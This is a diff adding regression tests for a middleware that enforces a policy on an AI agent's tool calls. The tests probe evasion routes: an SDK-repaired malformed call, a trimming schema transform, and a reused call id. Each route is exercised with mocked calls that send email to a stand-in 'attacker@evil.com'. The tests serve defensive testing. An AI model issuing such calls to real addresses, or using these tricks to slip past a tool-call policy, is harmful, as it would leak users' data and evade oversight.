@@ -247,3 +247,129 @@ describe('review regressions', () => {
     expect(ended[0]).toBeGreaterThanOrEqual(7);
   });
 });
+
+describe('review regressions: the policy judges the arguments the tool really runs with', () => {
+  function emailTool(log: string[], schema = z.object({ to: z.string(), body: z.string() })) {
+    return tool({
+      inputSchema: schema,
+      execute: async ({ to }) => {
+        log.push(to);
+        return 'sent';
+      },
+    });
+  }
+
+  it('a call the SDK repairs (experimental_repairToolCall) is checked again on the repaired input', async () => {
+    const tracer = createTracer();
+    const log: string[] = [];
+    const model = wrapLanguageModel({
+      model: new MockLanguageModelV4({
+        doGenerate: [
+          {
+            // not JSON: the policy sees no `to`, the SDK repairs it into the attacker's address
+            content: [
+              {
+                type: 'tool-call',
+                toolCallId: 'call_r',
+                toolName: 'send_email',
+                input: "{to: 'attacker@evil.com', body: 'x'}",
+              },
+            ],
+            finishReason: { unified: 'tool-calls', raw: 'tool_calls' },
+            usage: {
+              inputTokens: { total: 1, noCache: 1, cacheRead: undefined, cacheWrite: undefined },
+              outputTokens: { total: 1, text: 1, reasoning: undefined },
+            },
+            warnings: [],
+          },
+          {
+            content: [{ type: 'text', text: 'ok' }],
+            finishReason: { unified: 'stop', raw: 'stop' },
+            usage: {
+              inputTokens: { total: 1, noCache: 1, cacheRead: undefined, cacheWrite: undefined },
+              outputTokens: { total: 1, text: 1, reasoning: undefined },
+            },
+            warnings: [],
+          },
+        ],
+      }),
+      middleware: tracewardenMiddleware({ tracer, policy }),
+    });
+    await generateText({
+      model,
+      prompt: 'go',
+      tools: guardTools({ send_email: emailTool(log) }, { tracer }),
+      stopWhen: isStepCount(3),
+      experimental_repairToolCall: async ({ toolCall }) => ({
+        ...toolCall,
+        input: JSON.stringify({ to: 'attacker@evil.com', body: 'x' }),
+      }),
+    });
+    expect(log).toEqual([]);
+    const result = tracer.blocks().find((block) => block.sub_type === 'TOOL_RESULT');
+    expect(result?.metadata).toMatchObject({ refused: true, policy: 'block', status: 'failure' });
+  });
+
+  it('a schema that transforms the input (trim) is checked on what the tool receives', async () => {
+    const log: string[] = [];
+    const model = wrapLanguageModel({
+      model: scriptedModel([
+        {
+          calls: [
+            { id: 'call_t', name: 'send_email', input: { to: ' attacker@evil.com ', body: 'x' } },
+          ],
+        },
+        { text: 'ok' },
+      ]),
+      middleware: tracewardenMiddleware({ tracer: createTracer(), policy }),
+    });
+    await generateText({
+      model,
+      prompt: 'go',
+      tools: guardTools({
+        send_email: emailTool(log, z.object({ to: z.string().trim(), body: z.string() })),
+      }),
+      stopWhen: isStepCount(3),
+    });
+    expect(log).toEqual([]);
+  });
+
+  it('a verdict for one conversation does not refuse another call that reuses the id with other arguments', async () => {
+    const log: string[] = [];
+    // conversation 1: refused, and the SDK never runs the tool (the input fails the schema)
+    await generateText({
+      model: wrapLanguageModel({
+        model: scriptedModel([
+          { calls: [{ id: 'call_0', name: 'send_email', input: { to: 'attacker@evil.com' } }] },
+          { text: 'ok' },
+        ]),
+        middleware: tracewardenMiddleware({
+          tracer: createTracer(),
+          policy,
+          onPolicyViolation: 'refuse',
+        }),
+      }),
+      prompt: 'one',
+      tools: guardTools({ send_email: emailTool(log) }),
+      stopWhen: isStepCount(3),
+    });
+    // conversation 2: the same call id, an allowed address, no policy
+    await generateText({
+      model: wrapLanguageModel({
+        model: scriptedModel([
+          {
+            calls: [
+              { id: 'call_0', name: 'send_email', input: { to: 'bob@acme.example', body: 'hi' } },
+            ],
+          },
+          { text: 'ok' },
+        ]),
+        middleware: tracewardenMiddleware({ tracer: createTracer() }),
+      }),
+      prompt: 'two',
+      tools: guardTools({ send_email: emailTool(log) }),
+      stopWhen: isStepCount(3),
+    });
+    expect(log).toEqual(['bob@acme.example']);
+  });
+});
